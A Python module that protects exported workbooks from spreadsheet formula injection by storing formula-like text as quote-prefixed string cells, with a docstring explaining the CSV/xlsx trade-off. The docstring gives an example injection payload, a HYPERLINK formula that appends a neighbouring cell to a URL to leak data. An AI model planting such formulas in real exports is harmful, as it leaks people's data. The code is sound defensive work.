"""Cells that a spreadsheet shows as text and never evaluates: the one rule every
workbook Neisheng writes follows (web exports, upload templates, `export-snapshot`).

Spreadsheets read text beginning with = + - @ as a formula, and a leading tab or carriage
return is how such text slips past a first-character check when pasted or read from CSV.
A household member named =HYPERLINK("http://…"&B2,"详情") would otherwise become a live
link that sends the neighbouring cells to another site when clicked.

In a workbook every cell has a type, so the text is kept exactly as typed (a snapshot read
back holds the same name) and only its type changes: a string cell, never a formula
(openpyxl stores any text beginning with "=" as a formula unless told otherwise), marked
quotePrefix so that a person editing the cell in Excel or WPS keeps it text too.

CSV has no types: any escape would have to be written into the text itself and would no
longer round-trip, so `export-snapshot --format csv` writes values exactly as stored. CSV
snapshots are for machines (re-import, other tools); a snapshot meant for people to open
in a spreadsheet is exported with `--format xlsx`, which applies this rule.

No Django here: the engine writes workbooks too.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    """Whether a spreadsheet would take `value` for a formula if it were stored as typed."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def text_cell(sheet, value):
    """`value` ready for `sheet.append` on a write-only openpyxl sheet: text a spreadsheet
    would evaluate becomes a string cell with quotePrefix; anything else (numbers,
    negative amounts, dates, ordinary text, cells already built) is returned unchanged."""
    if not formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def text_row(sheet, values) -> list:
    """A row of `text_cell`s."""
    return [text_cell(sheet, value) for value in values]
